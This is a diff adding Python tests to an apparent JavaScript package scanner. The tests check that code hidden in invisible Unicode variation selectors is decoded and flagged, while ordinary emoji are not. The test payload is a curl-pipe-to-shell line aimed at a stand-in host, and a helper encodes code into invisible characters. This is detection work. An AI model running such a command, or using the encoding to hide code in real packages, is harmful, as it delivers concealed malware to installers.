@@ -346,3 +346,29 @@ def test_obfuscator_v2_self_replacing_base64_accessor_folds() -> None:
         "const _0xc=_0xb;require(_0xc(0x7b))[_0xc(0x7c)](_0xc(0x7d));"
     )
     assert commands(source) == ["whoami"]
+
+
+def _hidden(code: str) -> str:
+    return "".join(chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in code.encode())
+
+
+def test_code_hidden_in_variation_selectors_is_decoded_and_analysed() -> None:
+    from airlock.analysis.capabilities import analyze_source
+    from airlock.analysis.capabilities.scanner import decode_variation_selectors
+    from airlock.analysis.js import Dialect
+
+    payload = "require('child_process').exec('curl -s https://stage.invalid/x | sh')"
+    assert decode_variation_selectors(_hidden(payload).encode()) == payload.encode()
+    source = f"const s = `{_hidden(payload)}`;\nmodule.exports = s;\n"
+    caps = analyze_source("index.js", source.encode(), Dialect.JAVASCRIPT)
+    assert "child_process.exec" in caps.builtin
+    assert any(s.indicator.value == "invisible" for s in caps.signals)
+
+
+def test_emoji_variation_selectors_are_text() -> None:
+    from airlock.analysis.capabilities import analyze_source
+    from airlock.analysis.js import Dialect
+
+    source = "module.exports = '" + "\u2764\ufe0f \u263a\ufe0f " * 40 + "';\n"
+    caps = analyze_source("index.js", source.encode(), Dialect.JAVASCRIPT)
+    assert not caps.evaluated_code and not any(s.indicator.value == "invisible" for s in caps.signals)
